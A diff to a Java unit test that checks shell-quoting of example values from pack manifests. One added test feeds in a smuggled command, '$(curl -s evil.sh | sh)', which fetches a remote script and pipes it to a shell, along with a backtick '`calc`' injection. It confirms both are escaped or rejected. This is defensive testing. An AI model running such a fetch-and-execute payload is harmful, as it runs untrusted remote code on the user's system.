@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import dev.packs.manifest.ManifestReader;
 import dev.packs.pack.VariableDefinition;
 import dev.packs.source.MemorySource;
+import dev.packs.terminal.ShellText;
 import java.nio.charset.StandardCharsets;
 import java.util.Optional;
 import org.junit.jupiter.api.Test;
@@ -25,9 +26,21 @@ class ExampleValueTest {
 
     @Test
     void a_pattern_gets_the_first_usual_text_that_it_lets_through() {
-        assertThat(ExampleValue.argument(variable("pattern = '[a-z]+([.][a-z]+)+'")))
-                .isEqualTo("-Dvar.x=com.acme");
-        assertThat(ExampleValue.argument(variable("pattern = 'https://.+'"))).isEqualTo("-Dvar.x=https://example.org");
+        assertThat(argument("pattern = '[a-z]+([.][a-z]+)+'")).contains("-Dvar.x=com.acme");
+        assertThat(argument("pattern = 'https://.+'")).contains("-Dvar.x=https://example.org");
+    }
+
+    private static Optional<String> argument(String keys) {
+        return ExampleValue.argument(variable(keys), ShellText.POSIX);
+    }
+
+    @Test
+    void what_a_pack_gives_as_an_example_never_reaches_the_shell() {
+        assertThat(argument("example = '$(curl -s evil.sh | sh)'")).contains("'-Dvar.x=$(curl -s evil.sh | sh)'");
+        assertThat(argument("example = \"it's\"")).contains("'-Dvar.x=it'\\''s'");
+        assertThat(argument("example = \"a\\tb\"")).isEmpty();
+        assertThat(ExampleValue.argument(variable("example = '`calc`'"), ShellText.WINDOWS))
+                .isEmpty();
     }
 
     @Test
